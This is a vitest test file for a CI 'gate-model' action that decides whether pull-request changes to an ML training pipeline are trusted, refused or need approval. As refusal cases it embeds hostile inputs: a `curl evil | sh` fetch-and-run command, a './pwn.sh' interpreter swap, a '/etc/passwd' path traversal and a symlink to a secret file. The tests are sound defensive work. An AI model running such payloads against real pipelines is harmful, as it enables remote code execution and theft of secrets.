// actions/gate-model's decision (src/app/pipeline/gate-model.ts) on this repository's real
// pipeline, without building: which PR files count as training data, what is refused as code, and
// that links out of the PR's checkout are never read.
import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { describe, expect, it } from "vitest";
import { buildGateModel } from "../../src/app/pipeline/gate-model.js";
import { silentLogger as silent } from "../../src/core/ports/logger.js";
import { tempDir } from "../support/cli.js";

const ROOT = resolve(import.meta.dirname, "..", "..");
const FILES = ["pipelines/main.yaml", "pipelines/params.yaml", "pipelines/reviews-sft.yaml", "pipelines/reviews/make-data.mjs", "evals/reviews.yaml", "evals/cases/reviews.jsonl", "prompts/reviews.jinja"];

function trees(edit: (pr: string) => void): { root: string; pr: string } {
  const root = tempDir("llmops-gm-base-");
  for (const f of FILES) {
    mkdirSync(join(root, f, ".."), { recursive: true });
    cpSync(join(ROOT, f), join(root, f));
  }
  const pr = join(root, ".llmops", "pr");
  for (const f of FILES) {
    mkdirSync(join(pr, f, ".."), { recursive: true });
    cpSync(join(ROOT, f), join(pr, f));
  }
  edit(pr);
  return { root, pr };
}

function decide(t: { root: string; pr: string }, trusted: boolean, prData = ["pipelines/params.yaml", "pipelines/reviews-sft.yaml"]) {
  let asked = 0;
  const result = buildGateModel({
    root: t.root,
    prDir: t.pr,
    pipelineFile: join(t.root, "pipelines/main.yaml"),
    stage: "export",
    model: ".llmops/pipeline/model.gguf",
    prData,
    workDir: tempDir("llmops-gm-work-"),
    llmops: [process.execPath, join(ROOT, "dist/cli/index.js")],
    env: process.env,
    logger: silent,
    pullRequest: { number: 7, headSha: "c".repeat(40), headRepo: "mallory/llm-app" },
    baseCommit: "b".repeat(40),
    trust: async () => (asked++, trusted ? { allowed: true, reason: "approved", approvedBy: "maintainer" } : { allowed: false, reason: "not approved" }),
    build: false,
  });
  return result.then((r) => ({ ...r, asked }));
}

const edit = (dir: string, f: string, fn: (s: string) => string) => writeFileSync(join(dir, f), fn(readFileSync(join(dir, f), "utf8")));

describe("gate-model decides from the base's pipeline over the PR's data", () => {
  it("a PR that edits only the prompt and the generator: unchanged (the generator is the base's; the PR's is never read)", async () => {
    const r = await decide(trees((pr) => {
      edit(pr, "prompts/reviews.jinja", (s) => s + "\nBe brief.");
      writeFileSync(join(pr, "pipelines/reviews/make-data.mjs"), "process.exit(1)\n");
    }), false);
    expect(r.record.decision).toBe("unchanged");
    expect(r.asked).toBe(0);
    expect(r.record.keys.candidate).toEqual(r.record.keys.baseline);
  });

  it("a PR that changes a training parameter needs approval; approved, it would train", async () => {
    const t = trees((pr) => edit(pr, "pipelines/params.yaml", (s) => s.replace("max_steps: 200", "max_steps: 300")));
    const r = await decide(t, false);
    expect(r.record.decision).toBe("needs-approval");
    expect(r.record.pr_data.find((f) => f.path === "pipelines/params.yaml")!.changed).toBe(true);
    expect(Object.keys(r.record.keys.candidate).filter((s) => r.record.keys.candidate[s] !== r.record.keys.baseline[s])).toEqual(["train", "export"]);
    // build: false (an external endpoint) cannot judge a trained model: refused even when approved.
    expect((await decide(t, true)).record.decision).toBe("refused");
  });

  it.each([
    ["backend: command", (s: string) => s.replace("backend: reference", "backend: command\ncommand:\n  argv: [sh, -c, 'curl evil | sh']"), "changes `backend`"],
    ["an interpreter", (s: string) => s + "python: ./pwn.sh\n", "changes `python`"],
    ["data outside the repository", (s: string) => s.replace("../.llmops/pipeline/data/train.jsonl", "../../../../etc/passwd"), "outside the repository"],
  ])("a training spec that changes %s is refused as code, trusted or not", async (_what, change, reason) => {
    const r = await decide(trees((pr) => edit(pr, "pipelines/reviews-sft.yaml", change)), true);
    expect(r.record.decision).toBe("refused");
    expect(r.record.reason).toContain(reason);
  });

  it("a PR data file that is a link is never followed: the gate refuses, with the reason", async () => {
    const t = trees((pr) => {
      writeFileSync(join(t0, "secret"), "token");
      symlinkSync(join(t0, "secret"), join(pr, "pipelines/params.yaml.link"));
    });
    const r = await decide(t, true, ["pipelines/params.yaml.link"]);
    expect(r.record.decision).toBe("refused");
    expect(r.record.reason).toMatch(/params\.yaml\.link is not a regular file/);
    expect(r.asked).toBe(0);
  });

  it("the pipeline file is never PR data", async () => {
    await expect(decide(trees(() => {}), true, ["pipelines/main.yaml"])).rejects.toThrow(/lists the pipeline file/);
    await expect(decide(trees(() => {}), true, ["../x"])).rejects.toThrow(/not a path inside the repository/);
  });
});
const t0 = tempDir("llmops-gm-outside-");
